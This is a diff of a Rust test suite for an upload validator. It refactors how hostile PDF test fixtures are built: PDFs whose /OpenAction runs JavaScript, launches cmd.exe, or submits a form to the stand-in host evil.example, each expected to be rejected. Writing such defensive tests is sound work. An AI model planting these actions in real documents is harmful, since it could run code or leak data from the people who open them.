@@ -50,6 +50,11 @@ fn pdf_dengan(ubah: impl FnOnce(&mut Document, ObjectId, ObjectId)) -> Vec<u8> {
     out
 }
 
+/// The test SK opening with the action `aksi` (`/OpenAction`).
+fn pdf_aksi(aksi: lopdf::Dictionary) -> Vec<u8> {
+    pdf_dengan(|d, kat, _| set(d, kat, "OpenAction", Object::Dictionary(aksi)))
+}
+
 fn set(doc: &mut Document, id: ObjectId, kunci: &str, nilai: Object) {
     doc.get_object_mut(id).unwrap().as_dict_mut().unwrap().set(kunci, nilai);
 }
@@ -324,29 +329,13 @@ fn korpus() -> Vec<Kasus> {
         k(
             "PDF with OpenAction JavaScript",
             "sk.pdf",
-            pdf_dengan(|d, kat, _| {
-                set(
-                    d,
-                    kat,
-                    "OpenAction",
-                    Object::Dictionary(
-                        dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") },
-                    ),
-                )
-            }),
+            pdf_aksi(dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") }),
             Tolak(422),
         ),
         k(
             "PDF with a Launch action",
             "sk.pdf",
-            pdf_dengan(|d, kat, _| {
-                set(
-                    d,
-                    kat,
-                    "OpenAction",
-                    Object::Dictionary(dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") }),
-                )
-            }),
+            pdf_aksi(dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") }),
             Tolak(422),
         ),
         k(
@@ -401,16 +390,7 @@ fn korpus() -> Vec<Kasus> {
         k(
             "PDF with SubmitForm",
             "sk.pdf",
-            pdf_dengan(|d, kat, _| {
-                set(
-                    d,
-                    kat,
-                    "OpenAction",
-                    Object::Dictionary(
-                        dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("http://evil.example/") },
-                    ),
-                )
-            }),
+            pdf_aksi(dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("http://evil.example/") }),
             Tolak(422),
         ),
         k(
@@ -629,16 +609,7 @@ async fn formulir_unggah_menolak_halaman_yang_menyamar() {
         ("sk.svg", SVG.as_bytes().to_vec(), 415),
         (
             "sk.pdf",
-            pdf_dengan(|d, kat, _| {
-                set(
-                    d,
-                    kat,
-                    "OpenAction",
-                    Object::Dictionary(
-                        dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") },
-                    ),
-                )
-            }),
+            pdf_aksi(dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") }),
             422,
         ),
     ] {
